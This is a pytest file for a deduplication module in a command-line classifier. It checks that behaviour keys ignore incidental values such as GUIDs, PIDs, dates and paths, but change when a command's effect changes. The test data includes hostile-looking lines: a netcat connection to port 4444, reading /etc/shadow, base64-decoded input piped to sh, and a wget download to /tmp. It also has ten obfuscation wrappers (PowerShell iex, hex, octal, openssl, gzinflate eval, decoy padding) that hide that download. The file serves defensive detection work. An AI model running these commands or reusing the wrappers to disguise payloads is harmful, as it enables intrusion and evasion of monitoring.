import base64

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cmdclf.dedup import behaviour
from cmdclf.dedup.behaviour import behaviour_keys, behaviour_texts
from cmdclf.rules import RuleSet


def keys(*lines, platform="windows"):
    return behaviour_keys(pa.table({"platform": [platform] * len(lines), "command_line": list(lines)})).to_pylist()


def text(line, platform="windows"):
    return behaviour_texts(pa.array([line]), pa.array([platform]))[0].as_py().rstrip("\n")


ALIKE = [
    (
        "windows",
        "app.exe -cache {3F2504E0-4F89-11D3-9A0C-0305E82C3301}",
        "app.exe -cache {A72504E0-4F89-11D3-9A0C-0305E82C33FF}",
    ),
    ("windows", "mscorsvw.exe -StartupEvent 4b4 -Pipe b48", "mscorsvw.exe -StartupEvent 294 -Pipe 2a8"),
    ("windows", r"C:\Windows\System32\whoami.exe /all", "whoami /all"),
    ("linux", "/usr/bin/grep -c x y", "grep -c x y"),
    ("windows", r"app.exe --pid=4120 --handle=0x2a8", r"app.exe --pid=77 --handle=0x11f0"),
    ("windows", r"C:\Users\ann\tool.exe /log:C:\Logs\a-2024-01-02.log", r"C:\Users\bob\tool.exe /log:C:\Logs\b.log"),
    ("windows", r"C:\Windows\Temp\7zS4F2.tmp\setup.exe /s", r"C:\Windows\Temp\7zSA90.tmp\setup.exe /s"),
    ("windows", "SCHTASKS.EXE  /Query /FO list", "schtasks /query /fo LIST"),
    ("windows", r'word.exe "C:\Docs\Minutes of May.docx"', r'word.exe "C:\Docs\Offer.docx"'),
    (
        "windows",
        "powershell -e RwBlAHQALQBQAHIAbwBjAGUAcwBzACAALQBJAGQAIAA0ADgAMQAyAA==",  # Get-Process -Id 4812
        "powershell -e RwBlAHQALQBQAHIAbwBjAGUAcwBzACAALQBJAGQAIAAxADkANgAwAA==",  # Get-Process -Id 1960
    ),
    ("linux", "tar czf /srv/db-2024-01-31.tgz /srv/app", "tar czf /srv/db-2025-12-01.tgz /srv/app"),
    ("linux", "apt-get install nginx=1.24.0-2ubuntu7.1", "apt-get install nginx=1.25.3-1ubuntu2"),
    (
        "linux",
        "docker logs 9f3c77ab10de --since 2024-04-02T10:11:12Z",
        "docker logs 41d09e6cc2b7 --since 2024-08-21T22:00:41Z",
    ),
    ("linux", "gcc -c /tmp/ccAb12Xy.c -o /tmp/x1.o", "gcc -c /tmp/ccQr88Zz.c -o /tmp/k9.o"),
    ("linux", "cat a.log | sort ; id", "cat b.log|sort;id"),
]
UNLIKE = [
    (
        "windows",
        "msiexec /x {3F2504E0-4F89-11D3-9A0C-0305E82C3301}",
        "msiexec /x {A72504E0-4F89-11D3-9A0C-0305E82C33FF}",
    ),
    ("linux", "rm -f $HOME/data.zip", "rm -f $HOME/data.tar.gz"),
    (
        "linux",
        "dpkg-deb -x /tmp/a1/028-libitm1_12.2.0_amd64.deb x",
        "dpkg-deb -x /tmp/a1/032-libtsan2_12.2.0_amd64.deb x",
    ),
    ("macos", "dscl . -delete /Users/ann", "dscl . -delete /Users/bob"),
    ("windows", r"reg add HKLM\Software\X /v On /d 1", r"reg add HKLM\Software\X /v On /d 0"),
    ("windows", r"reg add HKLM\Software\X /v On /d 1", r"reg add HKCU\Software\X /v On /d 1"),
    ("windows", "sc stop spooler", "sc start spooler"),
    ("windows", r"wmic /node:WKS-48213 os get name", r"wmic /node:WKS-48214 os get name"),
    ("windows", r"dir \\fs01\share", r"dir \\fs02\share"),
    ("windows", "rundll32 a.dll,Install", "rundll32 a.dll,Remove"),
    (
        "windows",
        "DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
        "DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
    ),
    ("windows", r"type C:\a\report.txt", r"type C:\a\report.exe"),
    ("windows", r"C:\Windows\Temp\a1.tmp\good.exe", r"C:\Windows\Temp\a1.tmp\evil.exe"),
    ("windows", "mpcmdrun -Scan -ScanType 1", "mpcmdrun -Scan -ScanType 2"),
    ("windows", "cmd /c whoami", "cmd /c whoami > out.txt"),
    ("windows", "powershell -c ls", "p\u043ewershell -c ls"),
    (
        "windows",
        "powershell -e RwBlAHQALQBQAHIAbwBjAGUAcwBzACAALQBJAGQAIAA0ADgAMQAyAA==",  # Get-Process -Id 4812
        "powershell -e UwB0AG8AcAAtAFAAcgBvAGMAZQBzAHMAIAAtAEkAZAAgADQAOAAxADIA",  # Stop-Process -Id 4812
    ),
    ("linux", "curl https://a.example.com/x.sh", "curl https://b.example.com/x.sh"),
    ("linux", "curl https://a.example.com:8443/x", "curl https://a.example.com:443/x"),
    ("linux", "nc 192.0.2.7 4444", "nc 192.0.2.8 4444"),
    ("linux", "chmod 755 /srv/x", "chmod 777 /srv/x"),
    ("linux", "install -m 0755 x /bin/x", "install -m 4755 x /bin/x"),
    ("linux", "cat /etc/passwd", "cat /etc/shadow"),
    ("linux", "grep -c root f", "grep -C root f"),
    ("linux", "dnf --setopt=gpgcheck=1 upgrade", "dnf --setopt=gpgcheck=0 upgrade"),
    ("linux", "echo SGVsbG8gd29ybGQhMTIzNDU2 | base64 -d | sh", "echo V29ybGQgaGVsbG8hMTIzNDU2 | base64 -d | sh"),
]  # fmt: skip


@pytest.mark.parametrize(("platform", "a", "b"), ALIKE)
def test_what_varies_freely_keeps_the_key(platform, a, b):
    first, second = keys(a, b, platform=platform)
    assert first == second, (text(a, platform), text(b, platform))


@pytest.mark.parametrize(("platform", "a", "b"), UNLIKE)
def test_what_acts_changes_the_key(platform, a, b):
    first, second = keys(a, b, platform=platform)
    assert first != second, text(a, platform)


def _numbers(code):
    return ",".join(str(ord(letter)) for letter in code)


def _base64(code, form="utf-8"):
    return base64.b64encode(code.encode(form)).decode()


#: Ways to hide code: some are decoded, some are not, and none may make two codes look alike.
HIDDEN = {
    "variable": lambda c: f'powershell $d="{_base64(c)}";iex([convert]::frombase64string($d))',
    "characters": lambda c: f'powershell -c "iex(-join([char[]]({_numbers(c)})))"',
    "hexadecimal": lambda c: f"echo {c.encode().hex()} | xxd -r -p | sh",
    "octal": lambda c: "printf '" + "".join(f"\\{ord(x):03o}" for x in c) + "' | sh",
    "openssl": lambda c: f"X={_base64(c)}; echo $X|openssl enc -d -a|bash",
    "compressed": lambda c: f"php -r 'eval(gzinflate(base64_decode(\"{_base64(c[::-1])}\")));'",
    "decoy": lambda c: f'powershell -e {_base64("whoami", "utf-16-le")}; iex([gz]::inflate("{_base64(c)}"))',
    "beyond the bound": lambda c: f"powershell -e {_base64('whoami;' * 30_000 + c, 'utf-16-le')}",
    "awk": lambda c: f"awk 'BEGIN{{system(sprintf(f,{_numbers(c)}))}}'",
    "times": lambda c: f"python3 -c \"exec(bytes('{':'.join(str(ord(x)) for x in c)}'))\"",
}


@pytest.mark.parametrize("way", HIDDEN)
@pytest.mark.parametrize("platform", ["windows", "linux"])
def test_hidden_code_that_differs_in_one_character_has_another_key(way, platform):
    first, second = keys(
        HIDDEN[way]("wget http://192.0.2.9/a -O /tmp/a"),
        HIDDEN[way]("wget http://192.0.2.8/a -O /tmp/a"),
        platform=platform,
    )
    assert first != second


def test_a_file_that_runs_is_no_home_folder():
    assert len(set(keys("sh /home/good.sh", "sh /home/evil.sh", platform="linux"))) == 2
    assert len(set(keys("ls /home/ann", "ls /home/bob", platform="linux"))) == 1


def test_other_checks_make_another_version(monkeypatch):
    before = behaviour.behaviour_version()
    monkeypatch.setattr(behaviour, "_checks", lambda: RuleSet([], name="none"))
    assert behaviour.behaviour_version() != before


def test_letter_case_counts_where_the_system_counts_it():
    assert len(set(keys("ls -R", "ls -r", platform="linux"))) == 2
    assert len(set(keys("dir /S", "dir /s"))) == 1


LINES = st.one_of(
    st.text(max_size=120),
    st.text(alphabet="aZ09 -/\\\"'^`|.:=+{}$%@,;()<>\té–", max_size=160),
)


@settings(max_examples=150, deadline=None)
@given(st.lists(LINES, min_size=1, max_size=8), st.sampled_from(["windows", "linux", "macos"]))
def test_any_text_has_a_key_of_its_own_line_alone(lines, platform):
    together = keys(*lines, platform=platform)
    assert together == [keys(line, platform=platform)[0] for line in lines]
    assert all(len(key) == 32 for key in together)


def test_nulls_slices_and_long_lines():
    lines = pa.array(["x", None, "", "a" * 1_000_000, "'\"" * 300_000, "😀 ls"])
    table = pa.table({"platform": ["linux"] * 6, "command_line": lines})
    whole = behaviour_keys(table).to_pylist()
    assert whole[1] == whole[2]
    assert behaviour_keys(table.slice(3)).to_pylist() == whole[3:]
    assert len(set(whole)) == 4  # null, empty and quotes alone do nothing
